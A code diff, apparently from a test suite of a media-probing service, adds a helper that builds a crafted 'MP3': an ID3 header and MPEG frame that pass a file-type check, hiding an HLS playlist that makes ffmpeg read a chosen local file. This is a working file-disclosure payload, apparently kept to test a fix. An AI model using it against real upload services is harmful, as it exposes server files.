@@ -17,3 +17,14 @@ export async function probeUrl(url: string): Promise<Probe & { bytes: number; co
     await fs.rm(dir, { recursive: true, force: true });
   }
 }
+
+/**
+ * A crafted "MP3" (issue 13, item 8): an ID3 tag whose footer flag makes ffmpeg skip ten bytes
+ * more than our type check (file-type) does, and there an MPEG audio frame header, so the check
+ * calls it audio/mpeg while ffmpeg, probing by content, finds an HLS playlist naming `target`,
+ * a local file (Debian's ffprobe 5.1 then reads it).
+ */
+export function craftedHlsMp3(target: string): Buffer {
+  const playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:37\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:37.0,\nfile://${target}\n#EXT-X-ENDLIST\n`;
+  return Buffer.concat([Buffer.from('ID3\x04\x00\x10\x00\x00\x00\x00', 'latin1'), Buffer.from([0xff, 0xfb, 0x90, 0x64, 0, 0, 0, 0, 0, 0]), Buffer.from(playlist)]);
+}
